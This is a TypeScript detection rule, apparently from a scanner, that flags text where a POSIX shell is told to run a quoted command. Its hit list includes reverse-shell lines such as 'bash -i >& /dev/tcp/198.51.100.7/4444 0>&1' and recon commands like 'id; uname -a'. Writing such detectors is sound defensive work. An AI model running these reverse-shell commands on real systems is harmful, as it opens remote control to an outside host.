import { LOWER, UPPER, literal, oneOf } from '../byte-classes.ts';
import { BLANKS, QUOTE, WORD_START, matchAt } from '../expression.ts';
import { defineRule } from '../rule.ts';

const OPTIONS = String.raw`(?:(?:[-+][A-Za-z]{1,16}(?:${BLANKS}pipefail)?|--[a-z][a-z-]{1,32})${BLANKS}){0,8}`;

const COMMAND = new RegExp(
  String.raw`(?<=(${WORD_START}(?:ba|da|z|k|a)?))sh${BLANKS}${OPTIONS}(?:-[A-Za-z]{0,8}[ci][A-Za-z]{0,8}${BLANKS}?\$?${QUOTE}|-i${BLANKS}?(?:[0-9]?>&?|&>)${BLANKS}?/dev/(?:tcp|udp)/)`,
  'y',
);

/** What `-o` takes: `pipefail`. */
const LETTER_P = 0x70;

/** Bytes of options a glance reads through. */
const MAX_GLANCED = 48;

/**
 * False when a word of options is followed by a blank and by something that neither is another option nor begins a
 * quotation, a redirection or an escape: `bash -l script`.
 */
function mayTakeCommand(bytes: Uint8Array, at: number): boolean {
  for (let here = at + 3; here < at + MAX_GLANCED; here++) {
    const byte = bytes[here] ?? 0;
    if (isOptionByte(byte)) continue;
    if (byte !== 0x20 && byte !== 0x09) return true;
    const next = bytes[here + 1] ?? 0;
    if (isLetter(next)) return next === LETTER_P;
    if (next !== 0x2d && next !== 0x2b) return true;
    here++;
  }
  return true;
}

function isOptionByte(byte: number): boolean {
  return isLetter(byte) || byte === 0x2d || byte === 0x2b;
}

function isLetter(byte: number): boolean {
  return (byte >= 0x61 && byte <= 0x7a) || (byte >= 0x41 && byte <= 0x5a);
}

/**
 * A shell given a command in quotation marks, by any POSIX shell. The list form of APIs (`["bash","-lc","…"]`) is how
 * agents call their own tools and no alarm. `bash -i >& /dev/tcp/…` counts, the best known use of `-i`.
 */
export const shellExec = defineRule({
  id: 'shell_exec',
  type: 'INJECTION',
  summary: 'A shell is told to run a command.',
  isSecret: false,
  anchors: [
    [...literal('sh'), ...oneOf(' \t'), ...literal('-'), ...oneOf(`${LOWER}${UPPER}-`)],
    [...literal('sh'), ...oneOf(' \t\\', 2), ...oneOf(' \t\\\r\n-+')],
    [...literal('sh'), ...oneOf(' \t'), ...literal('+'), ...oneOf(LOWER)],
  ],
  glance: mayTakeCommand,
  match(text, at) {
    const command = matchAt(COMMAND, text, at);
    return command && { from: at - (command.groups[0]?.length ?? 0), to: command.to };
  },
  hits: [
    'bash -c "id; uname -a"',
    "sh -i 'exec 5<>/dev/tcp/198.51.100.7/443'",
    String.raw`{"cmd":"/bin/bash -c \"id\""}`,
    'docker exec -it web sh -c "ls"',
    "bash -lc 'make'",
    'zsh   -e  -c  "echo x"',
    'bash --noprofile --norc -eo pipefail -c "make"',
    String.raw`{"text":"run:\nbash -c 'id'"}`,
    "bash -c $'id\\n'",
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    String.raw`{"a":"{\"b\":\"sh -c \\\"id\\\"\"}"}`,
  ],
  misses: [
    'ssh -i "~/.ssh/key.pem" me@host',
    'git push -c "x"',
    'fish -c "x"',
    './build.sh -c "Release"',
    'run-bash -c "x"',
    'SHELL ["/bin/bash", "-c"]',
    '["bash","-lc","ls"]',
    'bash -x script.sh "argument"',
    'the option of bash - "c" - takes a command',
    'Spanish - English',
    'Bash -C "x"',
  ],
  source: 'bash(1), dash(1): INVOCATION.',
});
